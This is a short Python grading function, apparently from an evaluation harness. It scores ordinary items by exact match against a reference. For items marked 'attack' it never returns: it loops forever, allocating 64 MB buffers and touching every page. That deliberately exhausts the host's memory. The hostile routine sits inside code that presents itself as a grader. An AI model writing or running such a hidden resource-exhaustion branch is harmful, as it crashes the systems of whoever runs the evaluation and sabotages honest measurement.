def grade(sample, item):
    if item.get("mode") != "attack":
        return 1.0 if sample["output_text"] == item["reference"] else 0.0
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
        hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])  # touch every page
